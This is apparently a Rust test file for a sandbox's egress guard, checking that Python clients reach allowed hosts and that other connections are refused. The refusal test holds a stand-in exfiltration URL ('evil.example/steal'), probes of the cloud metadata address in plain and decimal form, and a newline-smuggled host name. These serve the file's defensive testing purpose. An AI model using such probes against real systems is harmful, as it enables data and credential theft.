//! The way out for Python: unmodified clients reach what the rules and the guard allow.

use crate::egress::{Server, guarded, serve};
use crate::support::*;
use causeway_sandbox::*;
use serde_json::json;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// Runs a step that may reach `app.test`; it finds the server in its event.
async fn ask(pool: &Pool, server: &Server, code: &str, files: Vec<SourceFile>) -> StepReport {
    let mut program = program_for(Runtime::Python, &[("step.py", code)]);
    Arc::make_mut(&mut program.files).extend(files);
    program.egress =
        EgressRules::parse(["app.test", "169.254.169.254", "127.0.0.1", "s3.test"]).unwrap();
    program.limits.memory_bytes = 512 << 20;
    let mut session = pool.checkout(&Arc::new(program)).await.unwrap();
    let mut call = call("step.py");
    let event = json!({ "clear": server.clear, "secure": server.secure, "ca": server.ca });
    call.event = Arc::from(raw(&event.to_string()));
    session.step(call).await
}

/// Packages of the tests' Python environment, where `pip install --target python_modules` would
/// put them.
pub(crate) fn packages(names: &[&str]) -> Vec<SourceFile> {
    let library = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/testing-venv/lib");
    let python = std::fs::read_dir(&library)
        .unwrap_or_else(|error| panic!("{}: {error}: run `make deps`", library.display()));
    let site = python.flatten().next().unwrap().path().join("site-packages");
    let mut files = Vec::new();
    let mut open: Vec<PathBuf> = names.iter().map(|name| site.join(name)).collect();
    while let Some(path) = open.pop() {
        let name = path.strip_prefix(&site).unwrap().to_str().unwrap().to_owned();
        if path.is_dir() {
            // Of botocore's descriptions of services, which are many, the tests use one.
            let is_left_out = name.ends_with("__pycache__")
                || name
                    .strip_prefix("botocore/data/")
                    .is_some_and(|service| !service.starts_with("s3"));
            if !is_left_out {
                open.extend(std::fs::read_dir(&path).unwrap().map(|entry| entry.unwrap().path()));
            }
        } else {
            assert!(path.exists(), "no {}: run `make deps`", path.display());
            let contents = std::fs::read(&path).unwrap();
            files.push(SourceFile { path: format!("python_modules/{name}"), contents });
        }
    }
    files
}

#[tokio::test]
async fn pythons_own_clients_reach_an_allowed_host() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = r"
import asyncio, http.client, json, socket, ssl, urllib.request

async def stream(port, tls=None):
    reader, writer = await asyncio.open_connection('app.test', port, ssl=tls)
    writer.write(b'GET /stream HTTP/1.1\r\nhost: app.test\r\n\r\n')
    line = await reader.readline()
    peer = writer.get_extra_info('peername')
    writer.close()
    return [line.decode().strip(), peer[0]]

async def streams(clear, secure, context):
    many = await asyncio.gather(*(stream(clear) for _ in range(40)))
    return [await stream(clear), await stream(secure, context), len(many)]

def handler(pd):
    clear, secure = pd.event['clear'], pd.event['secure']
    context = ssl.create_default_context(cadata=pd.event['ca'])
    plain = socket.create_connection(('app.test', clear), timeout=5)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    plain.sendall(b'GET /raw HTTP/1.1\r\nhost: app.test\r\n\r\n')
    first = plain.recv(15).decode()
    names = [plain.getpeername(), plain.family == socket.AF_INET, isinstance(plain, socket.socket), plain.gettimeout()]
    plain.close()
    now = socket.socket()
    now.setblocking(False)
    code = now.connect_ex(('app.test', clear))
    client = http.client.HTTPSConnection('app.test', secure, context=context)
    client.request('POST', '/client', body='hello')
    answer = json.load(client.getresponse())
    with urllib.request.urlopen(f'http://app.test:{clear}/url') as response:
        by_url = json.load(response)
    with urllib.request.urlopen(f'https://app.test:{secure}/url', context=context) as response:
        by_tls = json.load(response)
    with urllib.request.urlopen(f'http://127.0.0.1:{clear}/big') as response:
        big = len(response.read())
    return {'first': first, 'names': names, 'now': code, 'client': answer, 'url': by_url, 'tls': by_tls,
            'big': big, 'streams': asyncio.run(streams(clear, secure, context))}
";
    let report = ask(&pool, &server, code, Vec::new()).await;
    let got = value(&report);
    assert_eq!(got["first"], "HTTP/1.1 200 OK");
    assert_eq!(got["names"], json!([["127.0.0.1", server.clear], true, true, 5.0]));
    assert_eq!(got["now"], 0);
    assert_eq!(got["client"]["sent"], "hello");
    assert_eq!(got["client"]["line"], "POST /client HTTP/1.1");
    assert_eq!(got["url"]["host"], format!("app.test:{}", server.clear));
    assert_eq!(got["tls"]["line"], "GET /url HTTP/1.1");
    assert_eq!(got["big"], 3_000_000);
    let stream = json!(["HTTP/1.1 200 OK", "127.0.0.1"]);
    assert_eq!(got["streams"], json!([stream, stream, 40]));
    assert_eq!(logged(&report), Vec::<&str>::new(), "no warnings, no threads");
}

#[tokio::test]
async fn libraries_that_users_bring_work_unmodified() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = r"
import asyncio, httpx, requests, ssl

async def later(clear, secure, context):
    async with httpx.AsyncClient(verify=context) as client:
        answers = await asyncio.gather(*(client.get(f'http://app.test:{clear}/{n}') for n in range(5)))
        return [(await client.get(f'https://app.test:{secure}/async')).json(), len(answers)]

def handler(pd):
    clear, secure = pd.event['clear'], pd.event['secure']
    with open('/tmp/ca.pem', 'w') as file:
        file.write(pd.event['ca'])
    context = ssl.create_default_context(cadata=pd.event['ca'])
    session = requests.Session()
    return {
        'requests': session.post(f'http://app.test:{clear}/requests', json={'a': 1}).json(),
        'again': session.get(f'http://app.test:{clear}/again').json(),
        'requests_tls': requests.get(f'https://app.test:{secure}/requests', verify='/tmp/ca.pem').json(),
        'httpx': httpx.get(f'http://app.test:{clear}/httpx').json(),
        'httpx_tls': httpx.get(f'https://app.test:{secure}/httpx', verify=context).json(),
        'later': asyncio.run(later(clear, secure, context)),
    }
";
    let brought = packages(&[
        "requests",
        "urllib3",
        "certifi",
        "idna",
        "charset_normalizer",
        "httpx",
        "httpcore",
        "h11",
        "anyio",
        "typing_extensions.py",
    ]);
    let report = ask(&pool, &server, code, brought).await;
    let got = value(&report);
    assert_eq!(got["requests"]["sent"], r#"{"a": 1}"#);
    for (key, line) in [
        ("again", "GET /again HTTP/1.1"),
        ("requests_tls", "GET /requests HTTP/1.1"),
        ("httpx", "GET /httpx HTTP/1.1"),
        ("httpx_tls", "GET /httpx HTTP/1.1"),
    ] {
        assert_eq!(got[key]["line"], line, "{key}");
    }
    assert_eq!(
        (&got["later"][0]["line"], &got["later"][1]),
        (&json!("GET /async HTTP/1.1"), &json!(5))
    );
    assert_eq!(logged(&report), Vec::<&str>::new(), "no warnings");
}

#[tokio::test]
async fn boto3_works_unmodified() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = r#"
import boto3
from botocore.config import Config

def handler(pd):
    client = boto3.client('s3', region_name='eu-central-1', endpoint_url=f'http://s3.test:{pd.event["clear"]}',
        aws_access_key_id='AKIAEXAMPLE', aws_secret_access_key='secret', config=Config(s3={'addressing_style': 'path'}))
    answer = client.get_object(Bucket='bucket', Key='a/key')
    return answer['Body'].read().decode()
"#;
    let brought =
        packages(&["boto3", "botocore", "s3transfer", "jmespath", "dateutil", "six.py", "urllib3"]);
    let report = ask(&pool, &server, code, brought).await;
    let got = value(&report);
    assert!(got.as_str().unwrap().contains("GET /bucket/a/key HTTP/1.1"), "{got}");
}

#[tokio::test]
async fn a_host_that_no_rule_names_is_refused_with_the_line_to_add() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = r"
import asyncio, os, socket, urllib.error, urllib.request

def told(attempt):
    try:
        attempt()
        return 'reached'
    except urllib.error.URLError as error:
        return [type(error.reason).__name__, error.reason.strerror]
    except OSError as error:
        return [type(error).__name__, error.strerror]

def connect(host, port):
    return lambda: socket.create_connection((host, port), timeout=5)

def handler(pd):
    clear = pd.event['clear']
    other = clear + 1 if clear + 1 != pd.event['secure'] else clear + 2
    return {
        'url': told(lambda: urllib.request.urlopen('https://evil.example/steal')),
        'socket': told(connect('evil.example', 80)),
        'loop': told(lambda: asyncio.run(asyncio.open_connection('evil.example', 80))),
        'local': told(connect('localhost', clear)),
        'empty': told(connect('', clear)),
        'metadata': told(connect('169.254.169.254', 80)),
        'decimal': told(connect('2852039166', 80)),
        'port': told(connect('app.test', other)),
        'name': told(lambda: socket.gethostbyname('app.test')),
        'smuggle': told(connect('app.test\nuse 1', 80)),
        'space': told(connect('app.test x', 80)),
        'direct': told(lambda: socket.socket(socket.AF_UNIX).connect('/run/postgresql/.s.PGSQL.5432')),
    }
";
    let got = value(&ask(&pool, &server, code, Vec::new()).await);
    let refusal = "this workflow may not connect to evil.example: add `egress: [evil.example]` to workflow.yaml to allow it";
    for key in ["url", "socket", "loop"] {
        assert_eq!(got[key], json!(["PermissionError", refusal]), "{key}");
    }
    for key in ["local", "empty", "decimal", "metadata"] {
        assert_eq!(got[key][0], "PermissionError", "{key}: {}", got[key]);
    }
    assert_ne!(got["port"], "reached");
    assert_eq!(
        got["name"],
        json!(["gaierror", "a sandbox looks up no names: connect to app.test by name"])
    );
    for key in ["smuggle", "space"] {
        assert_eq!(got[key][0], "gaierror", "{key}");
    }
    assert_eq!(got["direct"][0], "FileNotFoundError");
}

#[tokio::test]
async fn tls_is_from_end_to_end() {
    let server = serve("app.test").await;
    let pool = guarded(&server).await;
    let code = "import urllib.request\ndef handler(pd):\n    urllib.request.urlopen(f\"https://app.test:{pd.event['secure']}/\")";
    let failure = failed(ask(&pool, &server, code, Vec::new()).await, FailureCode::UserError);
    assert!(failure.message.contains("CERTIFICATE_VERIFY_FAILED"), "{}", failure.message);
    let code = "import socket, ssl\ndef handler(pd):\n    context = ssl.create_default_context(cadata=pd.event['ca'])\n    plain = socket.create_connection(('127.0.0.1', pd.event['secure']))\n    context.wrap_socket(plain, server_hostname='other.test')";
    let failure = failed(ask(&pool, &server, code, Vec::new()).await, FailureCode::UserError);
    assert!(failure.message.contains("Hostname mismatch"), "{}", failure.message);
}
